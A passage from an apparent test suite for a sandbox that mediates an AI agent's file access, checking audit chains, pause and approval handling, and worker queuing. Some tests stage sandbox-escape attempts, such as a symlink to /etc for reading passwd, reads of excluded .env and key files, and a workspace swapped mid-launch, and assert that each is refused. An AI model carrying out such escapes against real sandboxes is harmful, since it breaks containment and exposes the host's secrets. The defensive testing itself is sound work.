  const d0 = await handled('direct'), q0 = await handled('queued');
  for (let i = 0; i < 5; i++) assert.equal((await ok(agent, 'read', { path: 'd.txt' })).content, 'direct\n');
  assert.ok((await ok(agent, 'list', {})).entries.some((e) => e.name === 'd.txt'));
  assert.equal((await ok(agent, 'write', { path: 'w.txt', content: 'queued\n' })).written, 7);
  assert.equal(await handled('direct') - d0, 6);
  assert.equal(await handled('queued') - q0, 1);
  // every read is an op row, done, whose stored result keeps no file content, and an entry
  const ops = (await srv.db.query("SELECT tool, state, result FROM ops WHERE job_id = $1 ORDER BY op_id", [D.jobId])).rows;
  const reads = ops.filter((o) => o.tool === 'read');
  assert.equal(reads.length, rows0 + 5);
  for (const o of reads) {
    assert.equal(o.state, 'done');
    assert.equal(o.result.ok, true);
    assert.equal(o.result.result.content, undefined, JSON.stringify(o.result));
    assert.equal(o.result.result.size, 7);
  }
  const entries = (await srv.db.query("SELECT operation, jb_audit_details(canonical) AS details FROM audit_entries WHERE job_id = $1 AND operation = 'read'", [D.jobId])).rows;
  assert.equal(entries.length, rows0 + 5);
  assert.ok(entries.every((e) => e.details.ok === true && e.details.size === 7));
  // paused: a read waits on the queued path until resume
  let ack = await buyer.timeout(10000).emitWithAck('jailbox:pause', {});
  assert.equal(ack.ok, true);
  let settled = false;
  const held = call(agent, 'read', { path: 'd.txt' }, 60000).then((r) => { settled = true; return r; });
  await new Promise((r) => setTimeout(r, 800));
  assert.equal(settled, false, 'a read ran in a paused session');
  ack = await buyer.timeout(10000).emitWithAck('jailbox:resume', {});
  assert.equal((await held).result.structuredContent.content, 'direct\n');
  assert.equal(await handled('queued') - q0, 2);
  const v = await srv.req('GET', `/v1/jailbox/${D.jobId}/audit/verify`, { token: srv.serviceToken });
  assert.equal(v.json.ok, true, JSON.stringify(v.json));
});

test('the heads of direct reads reach the buyer after the answers: the newest within about 100 ms, a few a second, never an older after a newer', { timeout: 120000 }, async () => {
  const H = await openSession((d) => writeFileSync(join(d, 'h.txt'), 'head\n'), { mode: 'unsupervised' });
  const agent = await connect(H.agentToken);
  const buyer = await connect(H.buyerToken);
  const heads = [];
  buyer.on('jailbox:audit_head', (h) => heads.push({ seq: h.seq, at: Date.now(), h }));
  await ok(agent, 'read', { path: 'h.txt' }); // the agent arrives: the session is active
  await new Promise((r) => setTimeout(r, 300));
  const n0 = heads.length;
  const t0 = Date.now();
  for (let i = 0; i < 60; i++) assert.equal((await ok(agent, 'read', { path: 'h.txt' })).content, 'head\n');
  const tEnd = Date.now();
  const dbHead = async () => (await srv.db.query("SELECT seq::int AS seq, encode(hash, 'hex') AS hash FROM audit_heads WHERE job_id = $1", [H.jobId])).rows[0];
  const want = await dbHead();
  await waitFor('the newest head announced', () => heads.some((x) => x.seq === want.seq), 5000);
  const last = heads.find((x) => x.seq === want.seq);
  assert.equal(last.h.hash, want.hash);
  assert.ok(typeof last.h.signature === 'string' && last.h.signature.length === 88 && typeof last.h.keyId === 'string', JSON.stringify(last.h));
  // the newest head came within about an interval of the last answer (slack for a slow machine)
  assert.ok(last.at - tEnd < 1500, `the newest head came ${last.at - tEnd} ms after the last answer`);
  // thinned: at most one an interval (plus the first), not one per read
  const during = heads.length - n0;
  assert.ok(during >= 1 && during <= Math.ceil((last.at - t0) / 100) + 2, `${during} heads for 60 reads in ${tEnd - t0} ms`);
  for (let i = 1; i < heads.length; i++) assert.ok(heads[i].seq > heads[i - 1].seq, 'heads in order: ' + heads.map((x) => x.seq).join(','));
  // every read is still its own entry, signed and chained: the chain verifies
  const v = await srv.req('GET', `/v1/jailbox/${H.jobId}/audit/verify`, { token: srv.serviceToken });
  assert.equal(v.json.ok, true, JSON.stringify(v.json));
  assert.equal(v.json.entries, want.seq);
  agent.close();
  buyer.close();
});

test('the worker\'s ops socket: bad lines, writes, unknown sessions and oversized lines run nothing', { timeout: 60000 }, async () => {
  const before = (await srv.db.query('SELECT count(*)::int AS n FROM ops')).rows[0].n;
  let r = await opsSocket('not json\n');
  assert.equal(r.ran, false, JSON.stringify(r));
  r = await opsSocket('{"jobId":"x","jobId":"y","tool":"read","path":"a","args":{}}\n'); // duplicate key
  assert.equal(r.ran, false, JSON.stringify(r));
  r = await opsSocket(JSON.stringify({ jobId: A.jobId, tool: 'write', path: 'evil.txt', args: { content: 'x' } }) + '\n');
  assert.equal(r.ran, false, JSON.stringify(r));
  assert.match(r.reason, /only tools that change nothing/);
  r = await opsSocket(JSON.stringify({ jobId: 'no-such-job', tool: 'read', path: 'a.txt', args: {} }) + '\n');
  assert.equal(r.ran, false, JSON.stringify(r));
  r = await opsSocket('[' + '['.repeat(100) + ']'.repeat(100) + ']\n'); // too deep
  assert.equal(r.ran, false, JSON.stringify(r));
  // over 8 MiB without a newline: the worker ends the connection, having parsed nothing
  r = await opsSocket('{"jobId":"' + 'a'.repeat(9 * 1024 * 1024), 30000);
  assert.equal(r.closed, true);
  assert.equal((await srv.db.query('SELECT count(*)::int AS n FROM ops')).rows[0].n, before);
  assert.ok(!existsSync(join(A.dir, 'evil.txt')));
  // the decision jailboxd made on its copy of the session is checked in the worker's
  // transaction: a copy with other exclusions runs nothing; the session's own runs
  const row = (await srv.db.query("SELECT mode, exclude, coalesce(walls->'prescan'->'flagged', '[]'::jsonb) AS flagged FROM sessions WHERE job_id = $1", [A.jobId])).rows[0];
  const expect = { mode: row.mode, exclude: row.exclude, flagged: row.flagged };
  r = await opsSocket(JSON.stringify({ jobId: A.jobId, tool: 'read', path: 'sub/b.txt', args: {}, expect: { ...expect, exclude: [...(row.exclude || []), 'sub/**'] } }) + '\n');
  assert.equal(r.ran, false, JSON.stringify(r));
  assert.equal(r.state, '', JSON.stringify(r));
  assert.equal((await srv.db.query('SELECT count(*)::int AS n FROM ops')).rows[0].n, before);
  r = await opsSocket(JSON.stringify({ jobId: A.jobId, tool: 'stat', path: 'sub/b.txt', args: { withContent: true }, expect }) + '\n');
  assert.equal(r.ran, true, JSON.stringify(r));
  assert.equal(r.answer.result.content, 'bee\n', JSON.stringify(r));
  const st = (await srv.db.query('SELECT tool, state, result FROM ops WHERE op_id = $1', [r.opId])).rows[0];
  assert.equal(st.state, 'done');
  assert.equal(st.result.result.content, undefined, 'file content stored: ' + JSON.stringify(st));
  // and the worker still serves the agent (an earlier test replaced a.txt)
  assert.equal((await ok(agentA, 'read', { path: 'sub/b.txt' })).content, 'bee\n');
});

test('many agents reading at once, straight to the worker: every answer its own session\'s, one row and one entry each, nothing left waiting', { timeout: 180000 }, async () => {
  const S = [];
  for (let i = 0; i < 3; i++) {
    const s = await openSession((d) => writeFileSync(join(d, 'mine.txt'), `session ${i}\n`), { mode: 'unsupervised' });
    s.agents = [await connect(s.agentToken), await connect(s.agentToken)];
    S.push(s);
  }
  for (const s of S) {
    await relayed(s.agents[0], 'mine.txt');
    s.rows0 = (await srv.db.query('SELECT count(*)::int AS n FROM ops WHERE job_id = $1', [s.jobId])).rows[0].n;
  }
  const d0 = await handled('direct'), q0 = await handled('queued');
  const N = 20; // per agent: 120 reads, interleaved across the sessions and agents
  const todo = [];
  for (let k = 0; k < N; k++)
    for (const [i, s] of S.entries())
      for (const a of s.agents) todo.push({ i, k, a });
  // three callers, each sending its next call when the last is answered
  const done = [];
  await Promise.all([0, 1, 2].map(async () => {
    for (let t; (t = todo.shift());) {
      const r = await call(t.a, t.k % 5 === 4 ? 'list' : 'read', t.k % 5 === 4 ? {} : { path: 'mine.txt' }, 120000);
      done.push({ i: t.i, k: t.k, r });
    }
  }));
  assert.equal(done.length, S.length * 2 * N);
  for (const { i, k, r } of done) {
    assert.ok(r.result && !r.result.isError, JSON.stringify(r));
    if (k % 5 === 4) assert.deepEqual(r.result.structuredContent.entries.map((e) => e.name), ['mine.txt']);
    else assert.equal(r.result.structuredContent.content, `session ${i}\n`);
  }
  // every call was answered once, by the direct route or — when the worker could not run it
  // that way (the audit head moved under it twice, no database connection free: relay.c
  // relay_direct) — by the queued one; under a loaded CI machine a few go the second way
  const direct = await handled('direct') - d0, queued = await handled('queued') - q0;
  console.log(`# direct ${direct} of ${S.length * 2 * N}, queued ${queued}`);
  assert.equal(direct + queued, S.length * 2 * N);
  assert.ok(direct >= S.length * N, `only ${direct} of ${S.length * 2 * N} went the direct route`);
  let kept = 0; // rows that keep a read's content: only the queued way's (read back from the row)
  for (const s of S) {
    const ops = (await srv.db.query('SELECT tool, state, result FROM ops WHERE job_id = $1', [s.jobId])).rows;
    assert.equal(ops.length, s.rows0 + 2 * N);
    assert.ok(ops.every((o) => o.state === 'done' && o.result.ok === true), JSON.stringify(ops[0]));
    kept += ops.filter((o) => o.result.result.content !== undefined).length;
    const n = (await srv.db.query("SELECT count(*)::int AS n FROM audit_entries WHERE job_id = $1 AND operation IN ('read', 'list')", [s.jobId])).rows[0].n;
    assert.equal(n, s.rows0 + 2 * N);
    const v = await srv.req('GET', `/v1/jailbox/${s.jobId}/audit/verify`, { token: srv.serviceToken });
    assert.equal(v.json.ok, true, JSON.stringify(v.json));
  }
  assert.ok(kept <= queued, `${kept} rows keep a read's content, ${queued} went the queued way`);
  // the ops socket is the owner's alone
  assert.equal(statSync(join(srv.state, 'worker-0.ops')).mode & 0o777, 0o600);
});

test('slow queued ops of one session (stats hashing 250 MiB) hold up no other session\'s queued ops (the worker\'s runners take a session each)', { timeout: 180000 }, async () => {
  const X = await openSession((d) => {
    writeFileSync(join(d, 'big1.bin'), Buffer.alloc(250 * 1024 * 1024, 1));
    writeFileSync(join(d, 'big2.bin'), Buffer.alloc(250 * 1024 * 1024, 2));
  }, { mode: 'supervised' });
  const Y = await openSession(() => {}, { mode: 'unsupervised' });
  const ax = await connect(X.agentToken);
  const ay = await connect(Y.agentToken);
  assert.equal((await ok(ay, 'write', { path: 'warm.txt', content: 'w\n' })).written, 2);
  // two supervised writes in X: their stats (queued ops) hash 250 MiB each, one after the
  // other on the runner that has X, each in the worker's transaction that holds X's session
  // row (the writes then time out undecided)
  const statsDone = async () => (await srv.db.query("SELECT count(*)::int AS n FROM ops WHERE job_id = $1 AND tool = 'stat' AND state IN ('done', 'failed')", [X.jobId])).rows[0].n;
  const statsSeen = async () => (await srv.db.query("SELECT count(*)::int AS n FROM ops WHERE job_id = $1 AND tool = 'stat'", [X.jobId])).rows[0].n;
  // Y's write goes in while X's first stat of the round runs. Queued behind X (a shared
  // runner, X's row), it could be answered only after that stat is done, a whole stat's time
  // later. A round is clear when the write was answered while none of the round's stats was
  // done, or in under half of one stat's time in the same round (never below 600 ms: a loaded
  // machine answers a plain write in a few hundred). A loaded machine can take as long for the
  // write alone as for a stat, so a round that is not clear is run again, up to 6; a write
  // that waits behind X's stats is never clear, so 6 unclear rounds fail
  const xs = [];
  const rounds = [];
  for (let round = 0; round < 6 && !rounds.some((r) => r.clear); round++) {
    const seen0 = await statsSeen();
    const done0 = await statsDone();
    xs.push(...['big1.bin', 'big2.bin'].map((p) => call(ax, 'write', { path: p, content: `x${round}\n` }, 90000).catch((e) => ({ cut: e.message }))));
    for (let t = Date.now(); (await statsSeen()) === seen0; ) {
      assert.ok(Date.now() - t < 30000, 'no stat of the supervised writes within 30 s');
      await new Promise((r) => setTimeout(r, 10));
    }
    // when each of the round's two stats is done: they run one after the other on X's runner,
    // so the time between the two is one whole stat (a 250 MiB hash) on this machine now
    const doneAt = (async () => {
      const at = [];
      for (let t = Date.now(), n = done0; at.length < 2 && Date.now() - t < 60000; ) {
        const d = await statsDone();
        while (n < d && at.length < 2) { at.push(Date.now()); n++; }
        await new Promise((r) => setTimeout(r, 20));
      }
      return at;
    })();
    const t0 = Date.now();
    const w = await ok(ay, 'write', { path: 'y.txt', content: 'queued\n' });
    const took = Date.now() - t0;
    assert.equal(w.written, 7);
    const before = (await statsDone()) - done0; // stats of the round done when it was answered
    const at = await doneAt;
    assert.equal(at.length, 2, 'the two stats of the round were not done within 60 s');
    const statMs = at[1] - at[0];
    const clear = before === 0 || (before === 1 && took < Math.max(600, statMs / 2));
    rounds.push({ took, before, statMs, clear });
    console.log('# round', round, ': a queued write of another session beside the stats took', took, 'ms;', before, 'of 2 stats done when it was answered; the second stat took', statMs, 'ms after the first', clear ? '(clear)' : '(run again)');
  }
  assert.ok(rounds.some((r) => r.clear), 'in no round was the other session\'s write answered before the first stat was done or within half a stat: ' + JSON.stringify(rounds));
  await Promise.all(xs);
});

test('a read handed straight to the worker never overtakes an op queued before it in its session', { timeout: 180000 }, async () => {
  const X = await openSession((d) => writeFileSync(join(d, 'f.txt'), 'old\n'), { mode: 'unsupervised' });
  const ax = await connect(X.agentToken);
  await relayed(ax, 'f.txt'); // reads of X are relayed to the worker from here on
  // X's row held here (as a claim takes it; an insert's key check still passes): the worker's
  // runner cannot claim X's write, which stays queued
  const hold = await srv.db.connect();
  try {
    await hold.query('BEGIN');
    await hold.query('SELECT 1 FROM sessions WHERE job_id = $1 FOR NO KEY UPDATE', [X.jobId]);
    // X: a write, stored (queued) before the read is asked for
    const xw = call(ax, 'write', { path: 'f.txt', content: 'new\n' }, 60000);
    await waitFor('the write stored', async () => (await srv.db.query("SELECT count(*)::int AS n FROM ops WHERE job_id = $1 AND tool = 'write' AND state = 'approved'", [X.jobId])).rows[0].n === 1, 10000);
    const xr = call(ax, 'read', { path: 'f.txt' }, 60000);
    await new Promise((r) => setTimeout(r, 500));
    await hold.query('COMMIT');
    const [w, r] = await Promise.all([xw, xr]);
    assert.equal(w.result?.structuredContent?.written, 4, JSON.stringify(w));
    assert.equal(r.result?.structuredContent?.content, 'new\n', 'the read overtook the write queued before it: ' + JSON.stringify(r));
  } finally {
    await hold.query('ROLLBACK').catch(() => {});
    hold.release();
  }
});

test('review: exclusions hide dotfiles and nested matches; set-user-ID files are never opened up', { timeout: 120000 }, async () => {
  const E = await openSession((d) => {
    mkdirSync(join(d, 'secrets'));
    writeFileSync(join(d, 'secrets/.env'), 'TOKEN=1\n');
    mkdirSync(join(d, 'sub'));
    writeFileSync(join(d, 'sub/key.pem'), 'pem\n');
    writeFileSync(join(d, 'tool'), '#!/bin/sh\n');
    chmodSync(join(d, 'tool'), 0o4755);
  }, { mode: 'unsupervised', exclude: ['secrets/*', '*.pem'] });
  const agent = await connect(E.agentToken);
  await refused(agent, 'read', { path: 'secrets/.env' }, 'excluded');
  await refused(agent, 'write', { path: 'sub/key.pem', content: 'x' }, 'excluded');
  await refused(agent, 'write', { path: 'sub/new.pem', content: 'x' }, 'excluded');
  const l = await ok(agent, 'list', { recursive: true });
  const names = JSON.stringify(l);
  assert.ok(!names.includes('.env') && !names.includes('key.pem'), names);
  const st = statSync(join(E.dir, 'tool'));
  assert.equal(st.mode & 0o7777, 0o4755, 'set-user-ID file left as it was');
  assert.equal(readFileSync(join(E.dir, 'sub/key.pem'), 'utf8'), 'pem\n');
});

test('review: a workspace swapped for a link to elsewhere while the session starts is never mounted', { timeout: 240000 }, async () => {
  const victim = join(srv.dir, 'victim');
  mkdirSync(join(victim, 'proj'), { recursive: true });
  writeFileSync(join(victim, 'proj/secret.txt'), 'host secret\n');
  chmodSync(join(victim, 'proj/secret.txt'), 0o600);
  const base = join(srv.wsroot, 'swap-' + Math.random().toString(36).slice(2));
  mkdirSync(join(base, 'proj'), { recursive: true });
  // a large sparse file keeps the pre-scan busy long enough to swap under it
  execFileSync('truncate', ['-s', '3G', join(base, 'proj/sparse.bin')]);
  const s = await srv.open({ workspace: base.slice(srv.wsroot.length + 1) + '/proj', mode: 'unsupervised' });
  await waitFor('prescanning', async () => ['prescanning', 'awaiting_agent', 'failed'].includes((await sessionOf(s.jobId)).state), 60000);
  renameSync(base, base + '.aside');
  symlinkSync(victim, base);
  const end = await waitFor('launch decided', async () => {
    const x = await sessionOf(s.jobId);
    return ['awaiting_agent', 'failed'].includes(x.state) ? x : null;
  }, 180000);
  assert.equal(end.state, 'failed', 'the launch went ahead on a swapped workspace');
  assert.match(end.stateReason, /^workspace: /);
  const st = statSync(join(victim, 'proj/secret.txt'));
  assert.equal(st.mode & 0o777, 0o600, 'files outside the root untouched');
  assert.equal(st.gid, 0);
});

test('pre-scan flags: links that leave, hard links, fifos, sockets, devices are announced, invisible and refused; a 10 GB sparse file is not read', { timeout: 240000 }, async () => {
  const F = await openSession((d) => {
    writeFileSync(join(d, 'ok.txt'), 'fine\n');
    mkdirSync(join(d, 'sub'));
    symlinkSync('/etc', join(d, 'sub/abs-out'));
    symlinkSync('../../elsewhere/x', join(d, 'sub/rel-out'));
    symlinkSync('../ok.txt', join(d, 'sub/in'));
    writeFileSync(join(d, 'h1'), 'linked\n');
    linkSync(join(d, 'h1'), join(d, 'h2'));
    execFileSync('mkfifo', [join(d, 'pipe')]);
    // a Unix socket left behind by a process that exits while listening
    execFileSync(process.execPath, ['-e', "require('net').createServer().listen(process.argv[1], () => process.exit(0))", join(d, 'sock')]);
    execFileSync('mknod', [join(d, 'null-dev'), 'c', '1', '3']);
    execFileSync('truncate', ['-s', '10G', join(d, 'huge.bin')]);
  }, { mode: 'unsupervised' });
  const want = { 'sub/abs-out': 'symlink_outside', 'sub/rel-out': 'symlink_outside', h1: 'hardlink', h2: 'hardlink',
    pipe: 'fifo', sock: 'socket', 'null-dev': 'device', 'huge.bin': 'too_large' };
  const buyer = await connect(F.buyerToken);
  const ev = await waitEvent(buyer, 'jailbox:pre_scan');
  const got = Object.fromEntries(ev.prescan.flagged.map((f) => [f.path, f.kind]));
  assert.deepEqual(got, want, JSON.stringify(ev.prescan));
  assert.equal(ev.prescan.flaggedCount, Object.keys(want).length);
  // the same list is in the pre-scan's audit entry; the 10 GB file was not read: the pre-scan
  // entry follows the move to prescanning within seconds
  const rows = (await srv.db.query("SELECT operation, jb_audit_details(canonical) AS details, created_at FROM audit_entries WHERE job_id = $1 ORDER BY seq", [F.jobId])).rows;
  const pre = rows.find((r) => r.operation === 'pre_scan');
  assert.deepEqual(Object.fromEntries(pre.details.flagged.map((f) => [f.path, f.kind])), want);
  const toPre = rows.find((r) => r.operation === 'state' && r.details.to === 'prescanning') || rows[0];
  const scanMs = pre.created_at - toPre.created_at;
  assert.ok(scanMs < 5000, `pre-scan took ${scanMs} ms with a 10 GB sparse file`);
  const agent = await connect(F.agentToken);
  const l = await ok(agent, 'list', { recursive: true });
  const names = l.entries.map((e) => e.name).sort();
  assert.deepEqual(names, ['huge.bin', 'ok.txt', 'sub', 'sub/in'], JSON.stringify(l.entries));
  assert.deepEqual((await ok(agent, 'list', { path: 'sub' })).entries.map((e) => e.name), ['in']);
  for (const path of Object.keys(want).filter((p) => want[p] !== 'too_large')) {
    await refused(agent, 'read', { path }, 'flagged');
    await refused(agent, 'write', { path, content: 'x' }, 'flagged');
  }
  await refused(agent, 'read', { path: 'sub/abs-out/passwd' }, 'flagged');
  await refused(agent, 'list', { path: 'sub/abs-out' }, 'flagged');
  // too_large is a notice: the file stays readable in ranges
  assert.equal((await ok(agent, 'read', { path: 'huge.bin', byteOffset: 5e9, byteLength: 4 })).length, 4);
  assert.equal((await ok(agent, 'read', { path: 'sub/in' })).content, 'fine\n');
  assert.equal(readFileSync(join(F.dir, 'h1'), 'utf8'), 'linked\n');
  const audit = (await srv.db.query("SELECT jb_audit_details(canonical) AS details FROM audit_entries WHERE job_id = $1 AND operation = 'read' AND path = 'pipe'", [F.jobId])).rows;
  assert.deepEqual([audit[0].details.error, audit[0].details.kind], ['flagged', 'fifo']);
});

test('JAILBOX_APPROVAL_TIMEOUT: a pending write without a decision fails with timeout, recorded and audited', { timeout: 120000 }, async () => {
  const T = await openSession((d) => writeFileSync(join(d, 't.txt'), 'before\n'));
  const buyer = await connect(T.buyerToken);
  const agent = await connect(T.agentToken);
  const t0 = Date.now();
  const r = await call(agent, 'write', { path: 't.txt', content: 'never approved\n' }, 30000);
  const took = Date.now() - t0;
  assert.equal(toolFailure(r)?.data?.reason, 'timeout', JSON.stringify(r));
  assert.ok(took >= 2900 && took < 12000, `answered after ${took} ms (timeout 3 s)`);
  const req = await waitEvent(buyer, 'jailbox:approval_request', (p) => p.path === 't.txt');
  const over = await waitEvent(buyer, 'jailbox:op', (p) => p.opId === req.opId);
  assert.deepEqual([over.state, over.result.error.code], ['failed', 'timeout']);
  assert.equal(readFileSync(join(T.dir, 't.txt'), 'utf8'), 'before\n');
  const op = (await srv.db.query('SELECT state, result FROM ops WHERE op_id = $1', [req.opId])).rows[0];
  assert.deepEqual([op.state, op.result.error.code], ['failed', 'timeout']);
  // too late: the buyer's approval finds nothing pending, and nothing is written
  const ack = await buyer.timeout(10000).emitWithAck('jailbox:approve', { opId: req.opId });
  assert.notEqual(ack.ok, true, JSON.stringify(ack));
  await new Promise((res) => setTimeout(res, 500));
  assert.equal(readFileSync(join(T.dir, 't.txt'), 'utf8'), 'before\n');
  const rows = (await srv.db.query("SELECT jb_audit_details(canonical) AS details FROM audit_entries WHERE job_id = $1 AND operation = 'write' AND path = 't.txt'", [T.jobId])).rows;
  assert.equal(rows.length, 1, JSON.stringify(rows));
  assert.deepEqual([rows[0].details.ok, rows[0].details.error, rows[0].details.decision], [false, 'timeout', 'timeout']);
  const v = await srv.req('GET', `/v1/jailbox/${T.jobId}/audit/verify`, { token: srv.serviceToken });
  assert.equal(v.json.ok, true, JSON.stringify(v.json));
});

test('the workspace group grant is undone when the session ends: original groups and modes come back', { timeout: 180000 }, async () => {
  const G = await openSession((d) => {
    mkdirSync(join(d, 'private'), { mode: 0o700 });
    writeFileSync(join(d, 'private/notes.txt'), 'mine\n', { mode: 0o600 });
    writeFileSync(join(d, 'shared.txt'), 'shared\n', { mode: 0o640 });
    execFileSync('chown', ['0:4', join(d, 'shared.txt')]);
    mkdirSync(join(d, 'tools'), { mode: 0o755 });
    writeFileSync(join(d, 'tools/run.sh'), '#!/bin/sh\necho old\n', { mode: 0o755 });
    execFileSync('chown', ['-R', '1000:1000', join(d, 'tools')]);
  }, { mode: 'unsupervised' });
  const mode = (p) => statSync(join(G.dir, p)).mode & 0o7777;
  const gid = (p) => statSync(join(G.dir, p)).gid;
  // while the session runs, the jail's group may write
  assert.deepEqual([gid('private'), mode('private')], [65534, 0o2770]);
  assert.deepEqual([gid('private/notes.txt'), mode('private/notes.txt')], [65534, 0o660]);
  assert.deepEqual([gid('shared.txt'), mode('shared.txt')], [65534, 0o660]);
  const agent = await connect(G.agentToken);
  await ok(agent, 'write', { path: 'private/new.txt', content: 'by the agent\n' });
  // a file the agent rewrites is a new file owned by the jail while the session runs
  await ok(agent, 'write', { path: 'tools/run.sh', content: '#!/bin/sh\necho new\n' });
  await ok(agent, 'write', { path: 'tools/added.sh', content: '#!/bin/sh\n' });
  const uid = (p) => statSync(join(G.dir, p)).uid;
  assert.deepEqual([uid('tools/run.sh'), gid('tools/run.sh'), mode('tools/run.sh')], [65534, 65534, 0o775]);
  // the buyer changes a mode meanwhile: that change is kept
  chmodSync(join(G.dir, 'shared.txt'), 0o664);
  const buyer = await connect(G.buyerToken);
  const ack = await buyer.timeout(10000).emitWithAck('jailbox:abort', { reason: 'done with it' });
  assert.equal(ack.ok, true, JSON.stringify(ack));
  await waitFor('workspace access restored', () => new RegExp(`"jobId":"${G.jobId}"[^\\n]*"msg":"workspace access restored"|"msg":"workspace access restored"[^\\n]*"jobId":"${G.jobId}"`).test(srv.log()), 60000);
  assert.deepEqual([gid('.'), gid('private'), mode('private')], [0, 0, 0o700]);
  assert.deepEqual([gid('private/notes.txt'), mode('private/notes.txt')], [0, 0o600]);
  assert.deepEqual([gid('shared.txt'), mode('shared.txt')], [4, 0o644]);
  // what the agent wrote stays, as it was written, owned by the buyer: a rewritten file by
  // the owner, group and mode of the one it replaced, a created one by those of its directory
  // (without the group write the grant had given)
  assert.equal(readFileSync(join(G.dir, 'private/new.txt'), 'utf8'), 'by the agent\n');
  assert.deepEqual([uid('private/new.txt'), gid('private/new.txt'), mode('private/new.txt')], [0, 0, 0o644]);
  assert.equal(readFileSync(join(G.dir, 'tools/run.sh'), 'utf8'), '#!/bin/sh\necho new\n');
  assert.deepEqual([uid('tools/run.sh'), gid('tools/run.sh'), mode('tools/run.sh')], [1000, 1000, 0o755]);
  assert.deepEqual([uid('tools/added.sh'), gid('tools/added.sh'), mode('tools/added.sh')], [1000, 1000, 0o644]);
});

test('review: a session decided on from this process\'s copy is checked at the insert — a mode changed meanwhile holds the write', { timeout: 120000 }, async () => {
  const M = await openSession((d) => writeFileSync(join(d, 'm.txt'), 'm\n'), { mode: 'unsupervised' });
  const agent = await connect(M.agentToken);
  const buyer = await connect(M.buyerToken);
  assert.equal((await ok(agent, 'read', { path: 'm.txt' })).content, 'm\n'); // the copy is taken
  // the mode changes behind jailboxd's back (as a mode switch on another instance would)
  await srv.db.query("UPDATE sessions SET mode = 'supervised' WHERE job_id = $1", [M.jobId]);
  let settled = false;
  const pending = call(agent, 'write', { path: 'm.txt', content: 'held\n' }, 60000).then((r) => { settled = true; return r; });
  const req = await waitEvent(buyer, 'jailbox:approval_request', (p) => p.path === 'm.txt');
  await new Promise((r) => setTimeout(r, 300));
  assert.equal(settled, false, 'the write ran without the buyer');
  assert.equal(readFileSync(join(M.dir, 'm.txt'), 'utf8'), 'm\n');
  const ack = await buyer.timeout(10000).emitWithAck('jailbox:reject', { opId: req.opId, reason: 'no' });
  assert.equal(ack.ok, true, JSON.stringify(ack));
  assert.equal(toolFailure(await pending)?.data?.reason, 'rejected');
  assert.equal(readFileSync(join(M.dir, 'm.txt'), 'utf8'), 'm\n');
});

test('review: wake-ups lost with the LISTEN connections delay ops, never hang them', { timeout: 120000 }, async () => {
  const L = await openSession((d) => writeFileSync(join(d, 'l.txt'), 'l\n'), { mode: 'unsupervised' });
  const agent = await connect(L.agentToken);
  assert.equal((await ok(agent, 'read', { path: 'l.txt' })).content, 'l\n');
  for (let round = 0; round < 3; round++) {
    // drop jailboxd's LISTEN connection and the worker's (their notifications are lost)
    const killed = (await srv.db.query(
      "SELECT pg_terminate_backend(pid) AS k FROM pg_stat_activity WHERE pid <> pg_backend_pid()" +
      " AND (application_name = 'jailboxd-listen' OR query ILIKE 'LISTEN%')")).rows.length;
    assert.ok(killed >= 2, `${killed} LISTEN connections found`);
    for (let i = 0; i < 3; i++) {
      const t0 = Date.now();
      assert.equal((await ok(agent, 'read', { path: 'l.txt' })).content, 'l\n');
      const w = await ok(agent, 'write', { path: `w${round}${i}.txt`, content: 'x' });
      assert.equal(w.written, 1);
      assert.ok(Date.now() - t0 < 8000, `round ${round}: ${Date.now() - t0} ms`);
    }
  }
});

// A read handed straight to the worker runs in the shim before it is stored (41e08a3); jailboxd
// hands one over only when the session is active. Decided on this process's copy of the
// session, read while it was active, a read that came after the buyer's pause ran in the
// sandbox while the buyer held the session (its answer was then refused and it waited for the
// resume, but it had run). Seen by the file's access time (set far in the past first, so that
// relatime moves it on a read).
test('review: a read after the buyer paused the session does not run in the sandbox until the resume', { timeout: 120000 }, async (t) => {
  const P = await openSession((d) => { writeFileSync(join(d, 'p.txt'), 'p\n'); writeFileSync(join(d, 'q.txt'), 'q\n'); }, { mode: 'unsupervised' });
  const agent = await connect(P.agentToken);
  const buyer = await connect(P.buyerToken);
  const old = new Date('2001-01-01T00:00:00Z');
  const atime = (f) => statSync(join(P.dir, f)).atimeMs;
  utimesSync(join(P.dir, 'p.txt'), old, new Date());
  assert.equal((await ok(agent, 'read', { path: 'p.txt' })).content, 'p\n'); // the copy is taken
  if (atime('p.txt') === old.getTime()) return t.skip('the workspace keeps no access times here');
  utimesSync(join(P.dir, 'q.txt'), old, new Date());
  const p = await buyer.timeout(10000).emitWithAck('jailbox:pause', {});
  assert.equal(p.ok, true, JSON.stringify(p));
  let settled = false;
  const read = call(agent, 'read', { path: 'q.txt' }, 60000).then((r) => { settled = true; return r; });
  await new Promise((r) => setTimeout(r, 1000));
  assert.equal(settled, false, 'answered while paused');
  assert.equal(atime('q.txt'), old.getTime(), 'q.txt was read in the sandbox while the session was paused');
  const r = await buyer.timeout(10000).emitWithAck('jailbox:resume', {});
  assert.equal(r.ok, true, JSON.stringify(r));
  assert.match(JSON.stringify(await read), /q\\n/);
  // back to active: reads are handed straight to the worker again
  assert.equal((await ok(agent, 'read', { path: 'p.txt' })).content, 'p\n');
});

// The direct path's claim (41e08a3): a read handed straight to the worker runs before it is
// stored, and its audit entry is committed only if the chain's head did not move since before
// it ran — so the chain's order is the order in which the ops saw the files. Checked on the
// chain itself: writes of distinct sizes and reads of the same file, all in flight at once;
// every read's entry must name the size the last write before it in the chain left (and the
// agent must have got content of that size).
test('review: reads racing writes: each read entry follows the write whose file it saw', { timeout: 180000 }, async () => {
  const O = await openSession((d) => writeFileSync(join(d, 'o.txt'), 'x'), { mode: 'unsupervised' });
  const agent = await connect(O.agentToken);
  assert.equal((await ok(agent, 'read', { path: 'o.txt' })).content, 'x');
  // rounds of a write and three reads in flight together (jailboxd holds only so many waiting
  // calls at once: a call it turns away is not counted)
  let answered = 0;
  for (let i = 1; i <= 30; i++) {
    const round = [call(agent, 'write', { path: 'o.txt', content: 'w'.repeat(1 + i) }, 120000)];
    for (let k = 0; k < 3; k++) round.push(call(agent, 'read', { path: 'o.txt' }, 120000).then((r) => ({ read: r })));
    for (const g of await Promise.all(round)) {
      if (!g.read) continue;
      if (toolFailure(g.read)?.data?.reason === 'unavailable') continue;
      assert.ok(g.read.result && !g.read.result.isError, JSON.stringify(g.read).slice(0, 300));
      answered++;
    }
  }
  const audit = await srv.req('GET', `/v1/jailbox/${O.jobId}/audit`, { token: srv.serviceToken });
  const entries = audit.text.trim().split('\n').map((l) => JSON.parse(l));
  let size = 1, reads = 0;
  for (const e of entries) {
    if (e.path !== 'o.txt') continue;
    if (e.operation === 'write' && e.details.ok) size = e.details.size;
    if (e.operation === 'read' && e.details.ok) {
      reads++;
